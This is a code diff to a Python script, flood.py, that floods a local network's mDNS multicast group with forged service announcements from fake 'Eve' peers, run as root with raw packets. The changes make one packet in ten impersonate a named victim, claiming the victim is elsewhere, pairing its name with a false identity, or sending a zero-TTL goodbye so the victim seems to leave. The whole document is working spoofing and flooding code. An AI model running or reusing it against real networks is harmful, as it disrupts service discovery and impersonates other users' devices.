@@ -3,7 +3,8 @@
 
   flood.py INTERFACE SERVICE RATE SECONDS [VICTIM-NAME VICTIM-ID]
 
-Nine of ten packets announce another peer; the tenth says that the victim is elsewhere. To be called as root.
+Nine of ten packets announce another peer; the tenth says by turns that the victim is elsewhere, is somebody else, or
+leaves. To be called as root.
 """
 import base64
 import os
@@ -25,17 +26,18 @@ def record(owner, kind, ttl, data, flush=True):
     return owner + struct.pack("!HHIH", kind, 0x8001 if flush else 1, ttl, len(data)) + data
 
 
-def response(instance, identifier, port, address):
+def response(instance, identifier, port, address, leaves=False):
     service_type = name(b"_" + service.encode(), b"_tcp", b"local")
     whole = bytes([len(instance)]) + instance + service_type
     host = name(b"h" + identifier[:12], b"local")
     text = b"".join(bytes([len(word)]) + word for word in (b"_v=1", b"_id=" + identifier))
     answers = [
-        record(service_type, 12, 4500, whole, flush=False),
+        record(service_type, 12, 0 if leaves else 4500, whole, flush=False),
         record(whole, 33, 120, struct.pack("!HHH", 0, 0, port) + host),
         record(whole, 16, 4500, text),
         record(host, 1, 120, address),
     ]
+    answers = answers[:1] if leaves else answers
     return struct.pack("!HHHHHH", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)
 
 
@@ -50,8 +52,11 @@ def packet():
     identifier = base64.b32encode(os.urandom(32)).decode().rstrip("=").lower().encode()
     instance = b"Eve (" + identifier[:8] + b")"
     if victim and random.random() < 0.1:
-        instance, identifier = victim[0].encode(), victim[1].encode()
-    payload = response(instance, identifier, 4711, address)
+        kind = random.randrange(3)
+        instance, identifier = victim[0].encode(), victim[1].encode() if kind != 1 else identifier
+        payload = response(instance, identifier, 4711, address, leaves=kind == 2)
+    else:
+        payload = response(instance, identifier, 4711, address)
     udp = struct.pack("!HHHH", 5353, 5353, 8 + len(payload), 0) + payload
     ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 255, 17, 0) + address + bytes([224, 0, 0, 251])
     ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
